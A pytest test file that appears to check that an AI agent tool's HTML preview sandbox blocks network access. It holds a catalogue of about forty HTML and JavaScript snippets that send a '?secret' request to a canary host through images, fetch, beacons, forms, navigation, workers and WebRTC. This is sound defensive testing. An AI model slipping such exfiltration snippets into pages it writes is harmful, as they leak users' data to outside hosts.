"""Hostile pages against a host that must hear nothing: live, in a tab, saved, replayed and exported.

Each attempt is also made on a page without a policy, to show that the host would hear it.
"""

import asyncio
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from agent_nb import Run
from agent_nb._base.wire import to_wire
from agent_nb.pages.preview import frame_attributes, still_frame_attributes
from agent_nb.providers.scripted import call, text
from tests.support.canary import ADDRESS, Canary, with_profile
from tests.support.cassettes import play, record
from tests.support.waiting import wait_until
from tests.support.widget_stage import Stage, ended, event, returned, wrote

pytest_plugins = ["tests.support.widget_stage"]
SETTLE = 700
"""Milliseconds in which a page that can be heard is heard."""

LOADS = {
    "image": '<img src="{}">',
    "image by script": "<script>new Image().src = '{}'</script>",
    "source set": '<img srcset="{} 2x, {} 1x">',
    "style sheet": '<link rel="stylesheet" href="{}">',
    "style import": "<style>@import url({});</style>",
    "background": '<b style="background: url({})">x</b>',
    "cursor": "<style>html {{ cursor: url({}), auto }}</style>",
    "font": "<style>@font-face {{ font-family: f; src: url({}) }} b {{ font-family: f }}</style><b>x</b>",
    "script": '<script src="{}"></script>',
    "module": "<script type=module>import('{}')</script>",
    "svg image": '<svg><image href="{}"/></svg>',
    "svg filter": '<svg><filter id=a><feImage href="{}"/></filter><rect filter="url(#a)" width=9 height=9 /></svg>',
    "object": '<object data="{}"></object>',
    "embed": '<embed src="{}">',
    "frame": '<iframe src="{}"></iframe>',
    "video": '<video src="{}" poster="{}" preload=auto></video>',
    "audio": '<audio src="{}" preload=auto></audio>',
    "fetch": "<script>fetch('{}', {{ mode: 'no-cors' }}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('{}', 'x')</script>",
    "event source": "<script>new EventSource('{}')</script>",
    "preload": '<link rel="preload" as="image" href="{}">',
    "module preload": '<link rel="modulepreload" href="{}">',
    "prefetch": '<link rel="prefetch" href="{}">',
    "worker import": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{}')`])))</script>",
}


def made_frame(document: str) -> str:
    """A frame with a document, made by a script: one in the markup is emptied."""
    made = "const made = document.createElement('iframe')"
    return f'<script>{made}; made.srcdoc = "{document}"; document.documentElement.append(made)</script>'


MOVES = {
    "navigation": "<script>location.href = '{}'</script>",
    "late navigation": "<script>setTimeout(() => location.replace('{}'), 200)</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url={}">',
    "link": '<a href="{}">x</a><script>document.querySelector("a").click()</script>',
    "link ping": '<a href="about:blank#x" ping="{}">x</a><script>document.querySelector("a").click()</script>',
    "form": '<form action="{}"></form><script>document.forms[0].submit()</script>',
    "form button": '<form method=post action="{}"><button></button></form>'
    "<script>document.querySelector('button').click()</script>",
    "frame that leaves": made_frame("<s\\cript>location.href = '{}'</s\\cript>"),
    "form in a frame": made_frame("<form action={}></form><s\\cript>document.forms[0].submit()</s\\cript>"),
}
ATTEMPTS = LOADS | MOVES
UNHEARD = {
    "window": "<script>open('{}')</script>",
    "svg use": '<svg><use href="{}#a"/></svg>',
    "service worker": "<script>navigator.serviceWorker?.register('{}')</script>",
    "manifest": '<link rel="manifest" href="{}">',
    "icon": '<link rel="icon" href="{}">',
    "speculation": '<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{}"]}}]}}</script>',
    "text track": '<video><track default kind=subtitles src="{}"></video>'
    "<script>document.querySelector('video').textTracks[0].mode = 'showing'</script>",
    "top": "<script>top.location = '{}'</script>",
}
"""What not even a page without a policy gets through here."""


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
    canary = Canary(tmp_path_factory.mktemp("tls"))
    yield canary
    canary.close()


@pytest.fixture(scope="module")
def context(playwright: Any, canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    context = with_profile(playwright, canary, tmp_path_factory.mktemp("browser"))
    yield context
    context.close()


@pytest.fixture
def stage(context: Any, server: Any, canary: Canary) -> Iterator[Stage]:
    stage = Stage(context.new_page(), server)
    canary.clear()
    yield stage
    stage.page.close()


def attempt(name: str) -> str:
    path = f"{ADDRESS}/{name.replace(' ', '-')}?secret"
    return "<!doctype html><title>t</title><h1>Page</h1>" + (ATTEMPTS | UNHEARD)[name].format(path, path)


def hostile(name: str) -> str:
    """The page of one attempt, or of all that only load something."""
    return attempt(name) if name != "all loads" else "".join(attempt(each) for each in LOADS | UNHEARD)


def replayed(page: str, folder: Path) -> Run:
    """A run that wrote the page, played from its cassette."""

    async def recorded() -> Run:
        writes = call("create_file", {"path": "index.html", "content": page})
        await record(folder / "tape.jsonl", [writes], [text("Done.")])
        return await play(folder / "tape.jsonl")

    with ThreadPoolExecutor() as pool:  # Playwright runs a loop in this thread
        return pool.submit(asyncio.run, recorded()).result()


def framed(stage: Stage, attributes: str) -> None:
    stage.page.goto(f"{stage.server.address}/nowhere")
    stage.page.evaluate("html => { document.body.innerHTML = html }", f"<iframe {attributes}></iframe>")
    stage.page.wait_for_timeout(SETTLE)


def played(stage: Stage, page: str, *, network: bool = False) -> None:
    stage.play([event("turn_started", step=1), *wrote("index.html", page)], network=network)
    stage.page.wait_for_timeout(SETTLE + 300)


@pytest.mark.parametrize("name", ATTEMPTS)
def test_the_canary_hears_a_page_without_a_policy(stage: Stage, canary: Canary, name: str):
    stage.page.goto(f"{stage.server.address}/nowhere")
    stage.page.evaluate("page => { document.open(); document.write(page); document.close() }", attempt(name))
    stage.page.wait_for_timeout(SETTLE)
    path = f"/{name.replace(' ', '-')}?"
    wait_until(stage.page, lambda: any(heard.startswith(path) for heard in canary.heard))


@pytest.mark.parametrize("name", ATTEMPTS | UNHEARD)
def test_a_live_page_is_not_heard(stage: Stage, canary: Canary, name: str):
    played(stage, attempt(name))
    assert canary.heard == []
    assert stage.page.url.startswith(stage.server.address)


@pytest.mark.parametrize("name", ATTEMPTS | UNHEARD)
def test_a_saved_page_is_not_heard(stage: Stage, canary: Canary, name: str):
    framed(stage, frame_attributes(attempt(name)))
    assert canary.heard == []


@pytest.mark.parametrize("name", ["image", "style sheet", "font", "script", "video", "fetch"])
def test_a_live_page_with_the_network_is_heard(stage: Stage, canary: Canary, name: str):
    played(stage, attempt(name), network=True)
    wait_until(stage.page, lambda: canary.heard)


@pytest.mark.parametrize("name", [*MOVES, "frame", "object", "embed", "worker import"])
def test_the_network_lets_no_page_leave(stage: Stage, canary: Canary, name: str):
    played(stage, attempt(name), network=True)
    assert canary.heard == []


@pytest.mark.parametrize("scripts", [False, True], ids=["without scripts", "with scripts"])
def test_the_html_of_a_tool_is_not_heard(stage: Stage, canary: Canary, scripts: bool):
    attempts = map(attempt, ATTEMPTS | UNHEARD)
    shown = [
        html
        for html in attempts
        if ("<script" in html) == scripts and not re.search("import|script src", html)
    ]
    framed(stage, still_frame_attributes("".join(shown)))
    assert canary.heard == []
    output = {"text/html": "".join(shown), "text/plain": "x"}
    started = event("tool_started", call_id="c", name="any", title="show")
    stage.play([event("turn_started", step=1), started, returned("c", output)])
    stage.widget.locator("summary", has_text="show").first.click()
    if scripts:
        stage.widget.get_by_role("button", name="Show it").click()
    stage.widget.locator("iframe.anb-html").wait_for(timeout=20_000)
    stage.page.wait_for_timeout(SETTLE)
    assert canary.heard == []


@pytest.mark.parametrize("name", ["image", "navigation", "refresh", "form", "fetch"])
def test_a_page_in_a_tab_of_its_own_is_not_heard(stage: Stage, canary: Canary, name: str):
    calm = "<!doctype html><h1>Page</h1>"
    played(stage, calm)
    stage.more(*[event("file_changed", **change) for change in _replaced(attempt(name), calm)])
    with stage.page.context.expect_page() as opened:
        stage.widget.get_by_role("button", name="Open in new tab").first.click()
    opened.value.wait_for_timeout(SETTLE)
    opened.value.close()
    assert canary.heard == []


def _replaced(page: str, before: str) -> list[dict[str, Any]]:
    lines = before.count("\n") + 1
    change = {"version": 2, "action": "edited", "size": 1, "first_line": 1, "added": 1, "removed": 1}
    patch = [[0, lines, page]]
    return [{"path": "index.html", "media_type": "text/html", "call_id": None, "patch": patch, **change}]


def show_events(stage: Stage, run: Run, folder: Path) -> None:
    """The run in the widget: first as it is, then in the replay of its own bar, to the end."""
    stage.play([dict(to_wire(each)) for each in run.events], ready={"line": "x", "name": "hero"})
    stage.page.wait_for_timeout(SETTLE)
    stage.widget.get_by_role("button", name="Replay").first.click()


def show_html(stage: Stage, run: Run, folder: Path) -> None:
    (folder / "run.html").write_text(run.to_html(), encoding="utf-8")
    stage.page.goto((folder / "run.html").as_uri())


def show_opened(stage: Stage, run: Run, folder: Path) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BROWSER", "true")
        stage.page.goto(run.open().as_uri())


@pytest.mark.parametrize("show", [show_events, show_html, show_opened])
@pytest.mark.parametrize("name", ["all loads", *MOVES])
def test_a_replayed_run_is_not_heard_in_any_form(
    stage: Stage, canary: Canary, tmp_path: Path, name: str, show: Callable[[Stage, Run, Path], None]
):
    run = replayed(hostile(name), tmp_path)
    assert run.files["index.html"] == hostile(name)
    show(stage, run, tmp_path)
    stage.page.wait_for_timeout(2 * SETTLE)
    assert canary.heard == []
    stopped = stage.widget.get_by_text("Preview stopped")
    assert len(stage.page.frames) > 1 or stopped.first.is_visible(), (
        "the page is shown, or was stopped when it left"
    )


def test_the_person_opens_one_live_preview_to_the_network(stage: Stage, canary: Canary):
    started, page = event("turn_started", step=1), wrote("index.html", attempt("image"))
    stage.play([started, *page, ended()], ready={"line": "x"})
    stage.widget.get_by_role("tab", name="Console").click()
    stage.widget.get_by_text("Blocked by the sandbox").first.wait_for()
    assert canary.heard == []
    switch = stage.widget.get_by_role("checkbox", name="Allow this page to load from the network")
    switch.check()
    stage.page.wait_for_timeout(SETTLE + 300)
    assert canary.heard
    canary.clear()
    with stage.page.context.expect_page() as opened:
        stage.widget.get_by_role("button", name="Open in new tab").first.click()
    opened.value.wait_for_timeout(SETTLE)
    opened.value.close()
    stage.widget.get_by_role("button", name="Replay").first.click()
    switch.wait_for(state="hidden")
    stage.page.wait_for_timeout(2 * SETTLE)
    assert canary.heard == [], "neither a tab nor a replay is opened"
    assert stage.page.evaluate("JSON.stringify(localStorage)").count("network") == 0


CONNECTS = """<script>
if ('RTCPeerConnection' in window) {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}
document.title = 'tried';
</script>"""


def test_peer_connections_are_not_made(stage: Stage, canary: Canary):
    page = CONNECTS.replace("STUN", canary.stun)
    framed(stage, f'srcdoc="{page.replace(chr(34), "&quot;")}"')
    stage.page.wait_for_timeout(SETTLE)
    assert canary.datagrams, "a page without our script is heard"
    canary.clear()
    framed(stage, frame_attributes(page))
    played(stage, page)
    stage.page.wait_for_timeout(SETTLE)
    assert canary.datagrams == []
